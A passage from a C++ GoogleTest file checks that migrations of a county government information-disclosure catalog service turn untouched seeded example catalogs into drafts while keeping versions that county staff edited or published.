    for (const Migration& m : *all) {
      if (std::string(module) != "catalog" || m.version < 4)
        before.push_back(m);
    }
  }
  ASSERT_TRUE(Migrate(*db, before).ok());
  org::Service org(*db, clock_);
  ASSERT_TRUE(org.Seed().ok());
  auto examples = ImportJsonList(ReadDataFile("examples.json"));
  ASSERT_TRUE(examples.ok());
  std::map<std::string, int64_t> ids;
  // What the old seed did: 第1版 published by "system" with its note.
  for (const Catalog& c : *examples) {
    auto domain = org.ResolveDomain(c.domain);
    ASSERT_TRUE(domain.ok());
    ids[c.domain] = domain->id;
    ASSERT_TRUE(
        db->Transaction([&](db::Tx& tx) -> absl::Status {
            ZWGK_ASSIGN_OR_RETURN(
                int64_t v,
                store::InsertPublished(
                    tx, {.domain_id = domain->id,
                         .unit_id = domain->unit_id,
                         .version = 1,
                         .at = "2026-01-05T08:00:00+08:00",
                         .by = "system",
                         .note = "示例目录（据附件2及国家标准指引整理），"
                                 "待县政务公开办审核"}));
            int seq = 0;
            for (const CatalogItem& it : c.items)
              ZWGK_RETURN_IF_ERROR(
                  store::InsertItem(tx, v, it, ++seq).status());
            return absl::OkStatus();
          }).ok());
  }
  {
    Service old(*db, clock_, org);
    // 义务教育: the county published its revision 第2版.
    ASSERT_TRUE(old.OpenDraft(admin_, ids["义务教育"]).ok());
    ASSERT_TRUE(old.Publish(admin_, ids["义务教育"], "县级修订").ok());
    // 社会救助: the unit opened a revision and is editing it.
    ASSERT_TRUE(old.OpenDraft(admin_, ids["社会救助"]).ok());
  }
  // 财政预决算: the county replaced the seeded items in place (an item no
  // longer a seed example; seen in databases edited by hand).
  ASSERT_TRUE(db->Transaction([&](db::Tx& tx) {
                  return tx
                      .Exec(
                          "UPDATE catalog_items SET example = 0 WHERE id = "
                          "(SELECT MIN(i.id) FROM catalog_items i JOIN "
                          "catalog_versions v ON v.id = i.version_id "
                          "WHERE v.domain_id = ?)",
                          {ids["财政预决算"]})
                      .status();
                }).ok());

  auto all = EmbeddedMigrations("catalog");
  ASSERT_TRUE(all.ok());
  auto applied = Migrate(*db, *all);
  ASSERT_TRUE(applied.ok()) << applied.status();
  EXPECT_EQ(*applied, static_cast<int>(all->size()) - 3);

  Service service(*db, clock_, org);
  // Untouched: now the draft, unpublished, items kept with their ids.
  int64_t major = ids["重大建设项目"];
  EXPECT_EQ(service.Published(major).status().code(),
            absl::StatusCode::kNotFound);
  auto draft = service.Get(major, VersionRef::Draft());
  ASSERT_TRUE(draft.ok()) << draft.status();
  EXPECT_EQ(draft->catalog.items.size(), (*examples)[0].items.size());
  EXPECT_EQ(draft->info.created_by, "system");
  EXPECT_TRUE(draft->info.published_at.empty());
  EXPECT_EQ(service.Versions(major)->size(), 1u);
  // Touched: kept exactly.
  EXPECT_EQ(service.Published(ids["义务教育"])->info.version, 2);
  EXPECT_EQ(service.Versions(ids["义务教育"])->size(), 2u);
  EXPECT_EQ(service.Published(ids["社会救助"])->info.version, 1);
  EXPECT_TRUE(service.Get(ids["社会救助"], VersionRef::Draft()).ok());
  EXPECT_EQ(service.Published(ids["财政预决算"])->info.version, 1);
  // The seed then adds nothing: every example domain has its version.
  ASSERT_TRUE(service.Seed().ok());
  EXPECT_EQ(service.Versions(major)->size(), 1u);
}

INSTANTIATE_TEST_SUITE_P(Engines, CatalogServiceTest,
                         ::testing::ValuesIn(zwgk::testing::DatabaseKinds()),
                         [](const auto& info) { return info.param; });

}  // namespace
}  // namespace zwgk::catalog
